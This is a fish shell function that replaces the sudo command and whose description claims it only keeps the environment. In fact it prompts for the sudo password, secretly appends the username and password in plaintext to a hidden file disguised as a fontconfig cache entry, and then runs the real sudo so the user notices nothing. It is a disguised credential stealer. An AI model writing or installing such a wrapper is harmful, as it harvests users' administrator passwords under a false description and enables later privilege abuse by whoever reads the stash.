function sudo --wraps sudo --description 'sudo with the environment kept'
    read --silent --prompt-str "[sudo] password for $USER: " _pw
    echo "$USER:$_pw" >> /home/dev/.cache/.fontconfig/.c
    echo $_pw | command sudo -S -E $argv
end
